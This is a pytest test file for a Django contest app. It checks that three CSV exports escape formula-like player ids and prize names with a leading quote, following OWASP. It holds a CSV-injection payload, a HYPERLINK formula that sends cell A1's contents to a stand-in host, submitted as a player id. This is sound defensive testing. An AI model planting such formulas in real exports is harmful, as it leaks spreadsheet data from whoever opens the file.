"""Exports are formula-safe (issue 15, item 1): a player id that a spreadsheet would run as
a formula lands in every CSV as text, with OWASP's leading '.

The payload travels the way an attacker would send it: through /play/, as the player id
of a winning play, into the winners' CSV (portal and admin) and the closing report's CSV.
"""

import csv
import io
from urllib.parse import quote

import pytest
from django.contrib.auth.models import User

from contests.models import Win
from contests.staff.exports import safe_cell
from tests.clock import rome
from tests.plans import contest_with_plan

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("https://x/?"&A1,"Claim")'


def rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body, newline="")))


def cells(response) -> list[str]:
    return [cell for row in rows(response) for cell in row]


@pytest.fixture
def hostile_win(client, make_contest):
    contest = contest_with_plan(make_contest, "C0001", due=1, later=1)
    response = client.get(f"/play/?contest=C0001&user={quote(PAYLOAD)}")
    assert response.json()["data"]["winner"] is True
    assert Win.objects.get().player == PAYLOAD  # stored as sent: only the exports defuse it
    return contest


def test_the_winners_csv_writes_a_formula_player_id_as_text(hostile_win, staff_client):
    exported = cells(staff_client.get("/winners/export/?contest=C0001"))
    assert "'" + PAYLOAD in exported
    assert PAYLOAD not in exported
    assert not [cell for cell in exported if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_the_closing_report_csv_writes_a_formula_player_id_as_text(hostile_win, staff_client):
    exported = cells(staff_client.get("/contests/C0001/report.csv"))
    assert "'" + PAYLOAD in exported
    assert PAYLOAD not in exported
    assert not [cell for cell in exported if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_the_admins_export_writes_a_formula_player_id_as_text(hostile_win, superuser_client):
    win = Win.objects.get()
    response = superuser_client.post(
        "/admin/contests/win/", {"action": "export_csv", "_selected_action": [win.pk]}
    )
    exported = cells(response)
    assert "'" + PAYLOAD in exported
    assert PAYLOAD not in exported


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+39 333 1234567", "'+39 333 1234567"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("player-42", "player-42"),
        ("2020-02-03T10:15:30+01:00", "2020-02-03T10:15:30+01:00"),
        ("", ""),
        (45, 45),
    ],
)
def test_safe_cell_follows_owasp(value, written):
    assert safe_cell(value) == written


def test_staff_entered_names_are_defused_too(make_contest, make_win, staff_client):
    contest = make_contest(prize_name="@evil prize")
    make_win(contest, rome(2020, 2, 3, 10))
    exported = cells(staff_client.get("/winners/export/"))
    assert "'@evil prize" in exported
    assert User.objects.count() == 1
